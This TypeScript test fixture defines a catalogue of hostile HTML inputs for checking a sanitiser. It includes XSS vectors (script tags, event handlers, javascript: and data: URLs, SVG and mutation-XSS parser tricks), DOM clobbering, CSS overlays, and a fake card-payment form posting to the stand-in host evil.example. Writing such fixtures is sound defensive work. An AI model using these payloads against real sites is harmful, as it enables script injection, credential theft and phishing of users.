/**
 * All hostile scripts set `window.injected`, and all hostile resources come from one host, so that tests can detect
 * both.
 */
const RUN = "window.injected=1";
const ELSEWHERE = "https://evil.example";

const nested = (tag: string, times: number) => `<${tag}>`.repeat(times) + "deep" + `</${tag}>`.repeat(times);

/** HTML that no page may show unsanitised, by the attack. Some cases are an editor's mistakes. */
export const hostileHtml: Readonly<Record<string, string>> = {
  "script-tags": `<script>${RUN}</script><ScRiPt/src=${ELSEWHERE}/x.js></ScRiPt><script type="module">${RUN}</script><scr<script>ipt>${RUN}</script><p>After</p>`,
  "event-handlers": `<img src=x onerror="${RUN}"><a href="/" ONCLICK=${RUN}>a</a><details open ontoggle="${RUN}"><summary>b</summary></details><input autofocus onfocus=${RUN}><video><source onerror="${RUN}"></video><body onload=${RUN}><p/onmouseover=${RUN}//style="animation:x" onanimationstart="${RUN}">c</p>`,
  "script-links": `<a href="javascript:${RUN}">a</a><a href=" &#106;ava&#x09;script:${RUN}">b</a><a href="JaVaScRiPt&colon;${RUN}">c</a><a href="\u0001javascript:${RUN}">d</a><a href="vbscript:x">e</a><a href="java\nscript:${RUN}">f</a>`,
  "data-links": `<a href="data:text/html,<script>${RUN}</script>">a</a><a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuaW5qZWN0ZWQ9MTwvc2NyaXB0Pg==">b</a><img src="data:image/svg+xml,%3Csvg onload=%22${RUN}%22/%3E" alt="c">`,
  "links-elsewhere": `<a href="${ELSEWHERE}/" target="_blank">a</a><a href="//evil.example/login">b</a><a href="\\\\evil.example">c</a><a href="https://nori.example@evil.example/">d</a><a href="logout" ping="${ELSEWHERE}/p">e</a><img src="${ELSEWHERE}/pixel.gif" width="1" height="1" alt="">`,
  frames: `<iframe src="${ELSEWHERE}/"></iframe><iframe srcdoc="<script>parent.injected=1</script>"></iframe><object data="${ELSEWHERE}/x.swf"></object><embed src="javascript:${RUN}"><frameset><frame src="javascript:${RUN}"></frameset><portal src="${ELSEWHERE}/"></portal>`,
  forms: `<form action="${ELSEWHERE}/pay" method="post"><label>Card number <input name="card" autocomplete="cc-number"></label><button formaction="javascript:${RUN}">Pay</button></form><input form="cart" name="count" value="100"><button form="cart">x</button>`,
  "page-settings": `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/"><meta http-equiv="Set-Cookie" content="session=x"><base href="${ELSEWHERE}/"><link rel="stylesheet" href="${ELSEWHERE}/x.css"><title>Injected</title>`,
  styles: `<style>@import "${ELSEWHERE}/x.css";body{display:none}</style><p style="position:fixed;inset:0;z-index:99999;background:#fff url(${ELSEWHERE}/x.png)">Your session is over, sign in again</p><p style="width:expression(${RUN})">a</p><p class="visually-hidden" id="main">b</p>`,
  "names-of-ours": `<img name="getElementById"><form id="documentElement"><input name="attributes"><input name="parentNode"></form><a id="__remixContext" name="__remixManifest" href="x:y">a</a><main id="cart"></main>`,
  svg: `<svg onload=${RUN}><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text y="20">a</text></a><animate attributeName="href" values="javascript:${RUN}"/><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject><use href="data:image/svg+xml,%3Csvg id='x' onload='${RUN}'/%3E#x"/><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  "parsed-anew": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></table></mtext></math><form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}></style></mglyph></form><svg></p><style><a id="</style><img src=x onerror=${RUN}>"></svg>`,
  "parsed-as-text": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><textarea><!--</textarea><img src=x onerror=${RUN}>--><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp><template><script>${RUN}</script></template><div><template shadowrootmode="open"><slot></slot><script>${RUN}</script></template></div><plaintext>`,
  "never-closed": `<div><section><b><i><a href="/"><p>Everything after this <strong>is a link`,
  "closed-too-often": `</p></div></section></main></body></html><script>${RUN}</script><p>And after the page`,
  "comments-never-closed": `<p>Before</p><!-- the rest of the page is a note <p>Hidden</p>`,
  "half-tags": `<p>Rolls < wok > soup <<b>>bold<</b>> <img src="x" alt="a > b" <p title='>"' <a href="/`,
  "other-languages": `<?xml version="1.0"?><![CDATA[<script>${RUN}</script>]]><!DOCTYPE html [<!ENTITY x "${RUN}">]>&x;<%= ${RUN} %>{{constructor.constructor('${RUN}')()}}`,
  entities: `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt;img src=x onerror=${RUN}&amp;gt; &#60;b&#62; &#x3c;b&#x3E; &lt&#115;cript &#0; &#x110000; &notanentity; &amp;amp;amp;`,
  "long-word": `<p>${"Ш".repeat(5_000)}</p><p>${"&shy;-".repeat(500)}</p>`,
  "other-direction": `<p>Скидка \u202e%001\u202c и <bdo dir="rtl">наоборот</bdo> \u2067\u202e не закрыто</p><p dir="rtl">e\u0301${"\u0301".repeat(400)}</p>`,
  "deeply-nested": nested("div", 4_000),
  "deeply-formatted": nested("b", 2_000),
  "large-table": `<table>${"<tr><td>1<td>2<td colspan=99999 rowspan=99999>3".repeat(300)}</table><img width="99999" height="99999" src="/pictures/miso.avif">`,
  "no-letters": `\u0000<p>\u0007\u001b[31m\ufffe</p>\u2028\u2029<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
};
